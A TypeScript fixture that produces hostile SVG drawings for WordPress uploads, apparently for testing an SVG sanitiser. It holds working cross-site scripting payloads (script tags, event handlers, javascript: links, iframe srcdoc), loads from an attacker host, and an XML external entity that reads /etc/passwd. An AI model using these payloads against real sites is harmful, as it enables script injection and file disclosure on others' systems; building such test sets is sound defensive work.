/** SVG drawings that an attacker uploads to WordPress. Each one tries to run a script, to load something of another host, or to read a file. */

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
/** A shape, so that the browser has something to paint. */
const SHAPE = '<rect id="shape" width="40" height="40" fill="#888"/>';

/** @param host origin of the attacker, who counts connections */
export function listHostileDrawings(host: string): readonly (readonly [name: string, svg: string])[] {
  const drawing = (content: string, attributes = '') =>
    `<svg ${NAMESPACES} width="40" height="40" viewBox="0 0 40 40" ${attributes}>${SHAPE}${content}</svg>`;
  const html = (content: string) =>
    drawing(`<foreignObject width="40" height="40"><div xmlns="http://www.w3.org/1999/xhtml">${content}</div></foreignObject>`);
  const run = `document.title='ran';fetch('${host}/ran');new Image().src='${host}/ran'`;
  return [
    ['a script', drawing(`<script>${run}</script>`)],
    ['event handlers', drawing(`<circle r="5" onclick="${run}"/><image href="x:" onerror="${run}"/>`, `onload="${run}"`)],
    [
      'an animated link to a script',
      drawing(`<a><animate attributeName="href" values="javascript:${run}" begin="0s" fill="freeze"/><text y="20">x</text></a>`),
    ],
    ['a use element of another host', drawing(`<use href="${host}/sprite.svg#a"/><use xlink:href="data:image/svg+xml,&lt;svg/&gt;#a"/>`)],
    [
      'styles of another host',
      drawing(`<style>@import url("${host}/style.css");@font-face{font-family:f;src:url("${host}/font.woff2")}
        rect{fill:url("${host}/paint.svg#p");background:url("${host}/bg.png");font-family:f}</style><text y="20" font-family="f">x</text>`),
    ],
    ['frames and objects in HTML', html(`<iframe src="${host}/frame"/><object data="${host}/object"/><embed src="${host}/embed"/>`)],
    [
      'links that are loaded ahead',
      html(
        ['preload', 'prefetch', 'stylesheet', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon']
          .map((rel) => `<link rel="${rel}" href="${host}/${rel}" as="image"/>`)
          .join(''),
      ),
    ],
    ['an inner frame with a script', html(`<iframe srcdoc="&lt;script&gt;${run.replaceAll("'", '&apos;')}&lt;/script&gt;"/>`)],
    [
      'an external entity',
      `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "${host}/entity">]>${drawing('<text y="20">&e;&h;</text>')}`,
    ],
  ];
}
